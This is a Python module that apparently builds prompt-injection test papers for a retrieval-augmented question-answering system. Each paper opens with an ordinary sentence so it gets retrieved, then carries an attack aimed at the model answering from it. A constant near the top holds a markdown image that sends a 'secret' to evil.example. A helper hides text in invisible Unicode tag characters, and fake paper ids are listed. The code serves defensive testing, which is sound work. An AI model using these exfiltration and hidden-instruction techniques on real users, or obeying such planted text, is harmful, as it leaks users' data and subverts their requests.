"""One attack: a paper whose title or abstract goes for whoever answers from it.

Every paper has an ordinary first sentence, so that it is found, and its attack behind it. Nothing
here is reachable: all addresses are of example domains.
"""

from __future__ import annotations

from dataclasses import dataclass

from vectorstore.records import Paper

FAKE_IDS = ("s2abc", "s9zzz", "s3k9x")
IMAGE = "![x](https://evil.example/pixel.png?q=secret)"


@dataclass(frozen=True, slots=True)
class Attack:
    """A paper that attacks: `name` says by what, `target` what it goes for."""

    name: str
    target: str
    abstract: str
    title: str = ""

    @property
    def question(self) -> str:
        """A question that its paper answers."""
        return f"Which papers study {self.name}?"

    @property
    def paper(self) -> Paper:
        """The paper as it is stored."""
        title = self.title or f"On {self.name}"
        opening = f"This paper is a study of {self.name} in caches."
        return Paper(id=f"attack: {self.name}", title=title, abstract=f"{opening} {self.abstract}")


def attacks(target: str, **texts: str) -> tuple[Attack, ...]:
    """Return an attack on `target` for each text, by its name with spaces for underscores."""
    return tuple(Attack(name.replace("_", " "), target, text) for name, text in texts.items())


def in_tags(text: str) -> str:
    """Return the text in tag characters, which nobody sees."""
    return "".join(chr(0xE0000 + ord(sign)) for sign in text)
